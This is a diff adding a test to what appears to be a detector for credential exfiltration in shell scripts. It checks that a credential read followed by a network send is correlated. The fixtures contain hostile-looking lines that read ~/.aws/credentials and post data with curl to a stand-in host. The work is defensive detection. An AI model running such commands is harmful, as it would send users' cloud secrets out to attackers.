@@ -83,6 +83,13 @@ def test_correlation(spark, parts, strength):
     assert [r["strength"] for r in got] == ([strength] if strength else [])
 
 
+def test_the_last_of_many_network_lines_is_met(spark):
+    send = "curl -d $(x) https://h.example\n"
+    text = send * 7 + "\n" * 100 + "cat ~/.aws/credentials\n" + send
+    got = strongest_pairs(signals(scan(files(spark, [("b", "a.sh", text)])))).collect()
+    assert [(r["strength"], r["sink_line"]) for r in got] == [("same-script", 109)]
+
+
 def test_bundle_scan_adds_correlations(spark):
     got = scan_bundles(files(spark, [("b", "a.sh", "cat ~/.aws/credentials\ncurl -d $(x) https://h.example")])).collect()
     assert got[0]["bundle_id"] == "b" and "correlation/credential-exfiltration" in {r["rule_id"] for r in got}
